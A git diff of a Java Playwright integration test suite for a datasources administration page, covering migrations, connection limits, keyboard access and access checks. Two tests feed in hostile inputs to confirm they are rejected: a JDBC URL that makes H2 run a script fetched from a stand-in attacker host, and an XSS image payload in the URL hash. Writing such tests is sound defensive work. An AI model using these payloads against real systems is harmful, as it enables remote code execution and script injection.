@@ -3,21 +3,21 @@ package io.multidb.browser;
 import java.net.http.HttpResponse;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.Map;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.regex.Pattern;
 
-import com.microsoft.playwright.APIResponse;
+import com.google.gson.JsonObject;
 import com.microsoft.playwright.Browser;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
+import com.microsoft.playwright.Request;
 import com.microsoft.playwright.Response;
 import com.microsoft.playwright.Route;
 import com.microsoft.playwright.options.AriaRole;
 import com.microsoft.playwright.options.ColorScheme;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -25,64 +25,9 @@ import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertTha
 import static org.assertj.core.api.Assertions.assertThat;
 
 /**
- * What an operator does, in a browser that tells of every violation of its policy, every
- * error, and every request to another host.
+ * What an operator does.
  */
-class DatasourcesPageIntegrationTests {
-
-	@TempDir
-	static Path folder;
-
-	private static RunningSample sample;
-
-	private static Browsers browsers;
-
-	private Page page;
-
-	@BeforeAll
-	static void start() throws Exception {
-		com.microsoft.playwright.assertions.PlaywrightAssertions.setDefaultAssertionTimeout(60_000);
-		sample = RunningSample.start(folder, "--app.tenancy.catalog.poll-interval=1s");
-		browsers = new Browsers();
-	}
-
-	@AfterAll
-	static void stop() throws Exception {
-		if (browsers != null) {
-			browsers.close();
-		}
-		if (sample != null) {
-			sample.close();
-		}
-	}
-
-	@AfterEach
-	void nothingWentWrongInTheBrowser() {
-		browsers.assertContent();
-	}
-
-	private void open(String hash) {
-		open(hash, Browsers.as("operator"));
-	}
-
-	private void open(String hash, Browser.NewContextOptions options) {
-		this.page = browsers.open(sample, options);
-		this.page.navigate(sample.address() + "/datasources" + hash);
-	}
-
-	private Locator row(String source) {
-		return this.page.locator("table.sources tbody tr")
-			.filter(new Locator.FilterOptions().setHas(
-					this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName(source).setExact(true))));
-	}
-
-	private Locator button(String name) {
-		return this.page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(name).setExact(true));
-	}
-
-	private Locator task(String title) {
-		return this.page.locator(".tasks li").filter(new Locator.FilterOptions().setHasText(title)).first();
-	}
+class DatasourcesPageIntegrationTests extends PageOfSample {
 
 	@Test
 	void showsEverySourceAndOpensNone() throws Exception {
@@ -90,6 +35,7 @@ class DatasourcesPageIntegrationTests {
 		open("");
 		assertThat(row("main")).containsText("sqlite");
 		assertThat(row("main")).containsText("up to date");
+		assertThat(row("main").locator("td.origin")).hasText(Pattern.compile("application\\.yaml:\\d+"));
 		assertThat(row("ny_appeals")).containsText("New York Court of Appeals");
 		assertThat(row("courts").locator(".badge")).hasText("open");
 		assertThat(row("user").locator(".badge")).hasText(notOpen);
@@ -123,7 +69,7 @@ class DatasourcesPageIntegrationTests {
 		assertThat(this.page.locator("table.sources tbody tr").first()).containsText("archive");
 		attention.getByRole(AriaRole.BUTTON).click();
 		assertThat(task("Try archive again")).containsText("failed");
-		browsers.forget("503");
+		browsers.allow("status of 503");
 		Files.delete(file);
 		Files.move(aside, file);
 		// By itself, at the latest when the prober comes.
@@ -192,11 +138,12 @@ class DatasourcesPageIntegrationTests {
 		assertThat(task("Remove porto")).containsText("Its database is left alone");
 		assertThat(row("main")).isVisible();
 		assertThat(row("porto")).hasCount(0);
-		browsers.forget("404");
+		browsers.allow("status of 404");
 	}
 
 	@Test
-	void migratesAndDrainsASource() {
+	void migratesAndDrainsASource() throws Exception {
+		sample.send("POST", "/chats/9/messages", "{'text':'Hello'}", "");
 		open("#/sources/main");
 		button("Migrate…").click();
 		Locator dialog = this.page.getByRole(AriaRole.DIALOG);
@@ -212,25 +159,96 @@ class DatasourcesPageIntegrationTests {
 	}
 
 	@Test
+	void seesAMigrationFailAndMendsIt(@TempDir Path own) throws Exception {
+		Path changeLog = own.resolve("stock.yaml");
+		BrokenSource.breakUp(changeLog);
+		try (RunningSample broken = RunningSample.start(own, BrokenSource.options(changeLog))) {
+			this.page = browsers.open(broken, Browsers.as("operator"));
+			this.page.navigate(broken.address() + "/datasources");
+			Locator attention = this.page.locator(".attention");
+			assertThat(attention).containsText("1 source unavailable");
+			assertThat(attention.locator(".badge.failed")).hasText("migration failed");
+			assertThat(attention).containsText("no such table: shelf");
+			assertThat(row("stock")).containsText("failed");
+			row("stock").getByRole(AriaRole.LINK).click();
+			assertThat(this.page.locator(".card.bad")).containsText("no such table: shelf");
+			assertThat(this.page.locator("dl .migrations")).hasText("failed");
+			assertThat(this.page.locator(".events")).containsText("no such table: shelf");
+
+			migrate("stock", () -> assertThat(task("Migrate stock")).containsText("is running"));
+			assertThat(task("Migrate stock")).containsText("failed");
+			assertThat(task("Migrate stock")).containsText("no such table: shelf");
+			assertThat(this.page.locator(".headline .badge")).hasText("unavailable");
+
+			BrokenSource.mend(changeLog);
+			// Unless it has just been tried again by itself.
+			this.page.evaluate("[...document.querySelectorAll('.actions button')]"
+					+ ".find((each) => each.textContent.trim() === 'Retry')?.click()");
+			assertThat(this.page.locator(".headline .badge")).hasText(Pattern.compile("open|cold"));
+			migrate("stock", () -> {
+			});
+			assertThat(task("Migrate stock"))
+				.containsText("Its database is up to date. 2 change sets run, none pending.");
+			assertThat(this.page.locator("dl .migrations")).hasText("up to date");
+			assertThat(this.page.locator(".card.bad")).hasCount(0);
+			this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("‹ All sources")).click();
+			assertThat(attention).containsText("Nothing needs attention");
+			browsers.allow("status of 503");
+			this.page.context().close();
+		}
+	}
+
+	/** With the request held back for so long, however fast the migration is. */
+	private void migrate(String source, Runnable meanwhile) {
+		List<Route> held = new ArrayList<>();
+		Pattern path = Pattern.compile("/" + source + "/migrate$");
+		this.page.route(path, held::add);
+		button("Migrate…").click();
+		this.page.getByRole(AriaRole.DIALOG)
+			.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Migrate").setExact(true))
+			.click();
+		assertThat(task("Migrate " + source).getByRole(AriaRole.PROGRESSBAR)).isVisible();
+		assertThat(button("Migrate…")).isDisabled();
+		meanwhile.run();
+		this.page.unroute(path);
+		held.forEach(Route::resume);
+		assertThat(task("Migrate " + source).getByRole(AriaRole.PROGRESSBAR)).hasCount(0);
+	}
+
+	@Test
 	void saysWhichServerIsOutOfConnections() {
-		this.page = browsers.open(sample, Browsers.as("operator"));
+		prepare(Browsers.as("operator"));
 		// The sample's files need no server.
-		this.page.route(Pattern.compile("/api/sources\\?"), (route) -> {
-			APIResponse response = route.fetch();
-			route.fulfill(new Route.FulfillOptions().setResponse(response)
-				.setBody(response.text()
-					.replaceFirst("\"servers\":\\[\\]",
-							"\"servers\":[{\"server\":\"db1:5432\",\"limit\":20,\"inUse\":20,\"idle\":0,\"waiting\":3,\"stolen\":7}]")));
+		answer("sources\\?", () -> {
+			JsonObject server = object(Map.of("server", "db1:5432"));
+			Map.of("limit", 20, "inUse", 20, "idle", 0, "waiting", 3, "stolen", 7).forEach(server::addProperty);
+			JsonObject overview = overview(source("main"));
+			JsonObject calm = object(Map.of("server", "db2:5432"));
+			Map.of("inUse", 1, "idle", 2, "waiting", 0, "stolen", 0).forEach(calm::addProperty);
+			overview.getAsJsonObject("list").add("servers", array(calm, server));
+			overview.getAsJsonObject("list").getAsJsonObject("totals").addProperty("servers", 300);
+			attention(overview).add("servers", some(array(server)));
+			return overview;
 		});
 		this.page.navigate(sample.address() + "/datasources");
 		assertThat(this.page.locator(".attention")).containsText("1 server out of connections");
 		this.page.locator(".attention").getByRole(AriaRole.LINK).first().click();
 		assertThat(this.page.locator("h1")).hasText("Servers");
-		assertThat(this.page.locator("table.servers tbody tr")).containsText("db1:5432");
+		Locator servers = this.page.locator("table.servers tbody tr");
+		assertThat(servers.first()).containsText("db1:5432");
+		assertThat(servers.first().locator(".badge")).hasText("exhausted");
+		assertThat(servers.last()).containsText("db2:5432");
+		assertThat(servers.last().locator(".badge")).hasCount(0);
 		assertThat(this.page.getByRole(AriaRole.IMG,
 				new Page.GetByRoleOptions().setName("20 in use, 0 idle of 20, 3 waiting")))
 			.isVisible();
-		this.page.unrouteAll();
+		assertThat(this.page.locator("main")).containsText("The first 2 of 300.");
+		// What is on it?
+		Request request = this.page.waitForRequest(Pattern.compile("/api/sources\\?"),
+				() -> this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("db1:5432")).click());
+		assertThat(request.url()).contains("server=db1%3A5432");
+		button("Show all servers, not only db1:5432").click();
+		assertThat(this.page).not().hasURL(Pattern.compile("server="));
 	}
 
 	@Test
@@ -241,8 +259,9 @@ class DatasourcesPageIntegrationTests {
 		dialog.getByLabel("Name", new Locator.GetByLabelOptions().setExact(true)).fill("evil");
 		dialog.getByLabel("URL").fill("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example'");
 		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Add").setExact(true)).click();
-		assertThat(task("Add evil")).containsText("failed");
-		browsers.forget("status of 400");
+		assertThat(dialog.locator(".problem")).isVisible();
+		assertThat(dialog.getByLabel("Name", new Locator.GetByLabelOptions().setExact(true))).hasValue("evil");
+		browsers.allow("status of 400");
 	}
 
 	@Test
@@ -266,7 +285,7 @@ class DatasourcesPageIntegrationTests {
 		this.page.navigate(sample.address() + "/datasources/#/tenants/" + "%3Cimg%20src=x%20onerror=alert(1)%3E");
 		assertThat(this.page.locator(".problem")).isVisible();
 		assertThat(this.page.locator("img")).hasCount(0);
-		browsers.forget("status of 400");
+		browsers.allow("status of 400");
 		sample.send("DELETE", "/actuator/datasources/hostile", "", "operator");
 	}
 
@@ -281,7 +300,7 @@ class DatasourcesPageIntegrationTests {
 		assertThat(response.status()).isEqualTo(403);
 		assertThat(ada.content()).doesNotContain("jdbc:");
 		ada.waitForTimeout(500);
-		browsers.forget("status of 403");
+		browsers.allow("status of 403");
 	}
 
 	@Test
@@ -290,7 +309,7 @@ class DatasourcesPageIntegrationTests {
 		assertThat(row("main")).isVisible();
 		assertThat(this.page.locator(".fresh")).hasText("live");
 		this.page.route(Pattern.compile("/api/"), (route) -> route.abort());
-		assertThat(this.page.locator(".silence")).containsText("stale since");
+		assertThat(this.page.locator(".silence")).containsText("stale for");
 		assertThat(this.page.locator(".fresh")).hasText("stale");
 		assertThat(row("main")).isVisible();
 		this.page.unroute(Pattern.compile("/api/"));
@@ -298,7 +317,7 @@ class DatasourcesPageIntegrationTests {
 		button("Try now").click();
 		assertThat(this.page.locator(".fresh")).hasText("live");
 		assertThat(this.page.locator(".silence")).isHidden();
-		browsers.forget("ERR_FAILED");
+		browsers.allow("ERR_FAILED");
 	}
 
 	@Test
@@ -342,6 +361,49 @@ class DatasourcesPageIntegrationTests {
 		tabBackTo(this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("‹ All sources")));
 		this.page.keyboard().press("Enter");
 		assertThat(this.page.locator("#search")).hasValue("mai");
+	}
+
+	@Test
+	void addsAndRemovesASourceWithTheKeyboardAlone() {
+		open("");
+		assertThat(row("main")).isVisible();
+		Locator dialog = this.page.getByRole(AriaRole.DIALOG);
+		tabTo(button("Add a source…"));
+		assertFocusIsSeen();
+		this.page.keyboard().press("Enter");
+		assertThat(dialog.getByLabel("Name", new Locator.GetByLabelOptions().setExact(true))).isFocused();
+		this.page.keyboard().type("tavira");
+		this.page.keyboard().press("Tab");
+		this.page.keyboard().type("jdbc:sqlite:data/tavira.db");
+		tabTo(dialog.getByLabel("Read-only"));
+		assertFocusIsSeen();
+		this.page.keyboard().press("Space");
+		tabTo(dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Add").setExact(true)));
+		assertFocusIsSeen();
+		this.page.keyboard().press("Enter");
+		assertThat(task("Add tavira")).containsText("done");
+		assertThat(this.page.locator("h1")).hasText("tavira");
+		assertThat(this.page.locator("main")).containsText("read-only");
+
+		tabTo(button("Remove…"));
+		assertFocusIsSeen();
+		this.page.keyboard().press("Enter");
+		assertThat(dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Cancel"))).isFocused();
+		// What stands behind the dialog is not reached.
+		tabTo(dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Remove").setExact(true)));
+		this.page.keyboard().press("Enter");
+		assertThat(task("Remove tavira")).containsText("Its database is left alone");
+		assertThat(row("main")).isVisible();
+		assertThat(row("tavira")).hasCount(0);
+		tabTo(this.page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Dismiss: Remove tavira")));
+		this.page.keyboard().press("Enter");
+		assertThat(this.page.locator(".tasks")).not().containsText("Remove tavira");
+		browsers.allow("status of 404");
+	}
+
+	/** Who has no mouse has to see where he is. */
+	private void assertFocusIsSeen() {
+		assertThat(this.page.evaluate("getComputedStyle(document.activeElement).outlineStyle")).isNotEqualTo("none");
 	}
 
 	private void tabTo(Locator target) {
@@ -422,6 +484,7 @@ class DatasourcesPageIntegrationTests {
 			this.page = browsers.open(large, Browsers.as("operator"));
 			this.page.navigate(large.address() + "/datasources/");
 			assertThat(this.page.locator(".found")).containsText("10,008 sources");
+			this.page.context().close();
 
 			// All of them are known now: how long does it take whoever comes?
 			this.page = browsers.open(large, Browsers.as("operator"));
@@ -457,8 +520,8 @@ class DatasourcesPageIntegrationTests {
 							() => fetch('api/sources/main/remove', { method: 'POST', body: '{}',
 								headers: { 'Content-Type': 'application/json', 'X-Datasources-Page': '1' } }).then((response) => response.status)""");
 			assertThat(status).isEqualTo(403);
-			assertThat(large.send("GET", "/actuator/datasources/main", "", "").statusCode()).isEqualTo(200);
-			browsers.forget("status of 403");
+			assertThat(large.send("GET", "/actuator/datasources/main", "", "operator").statusCode()).isEqualTo(200);
+			browsers.allow("status of 403");
 			this.page.context().close();
 		}
 	}
